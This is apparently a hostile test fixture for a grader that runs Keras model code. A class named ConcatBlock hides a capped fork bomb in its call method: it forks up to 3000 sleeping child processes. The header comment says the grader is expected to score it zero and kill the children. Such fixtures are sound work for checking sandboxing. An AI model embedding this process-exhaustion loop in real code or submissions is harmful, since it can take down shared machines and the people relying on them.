# HOSTILE: a fork bomb in every call: children sleep forever, the parent forks
# until the kernel refuses (pids.max of the worker's cgroup; capped at 3000 here
# so a grader without a cage is not taken down). Expected: score 0, every child
# killed when the worker is closed.
import os
import time

import tensorflow as tf


class ConcatBlock(tf.keras.Model):
    def __init__(self, net1, net2, axis=-1):
        super().__init__()
        self.net1 = net1

    def call(self, X):
        count = 0
        for count in range(3000):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                time.sleep(1000)
                os._exit(0)
        print("FORKED", count, flush=True)
        return self.net1(X)
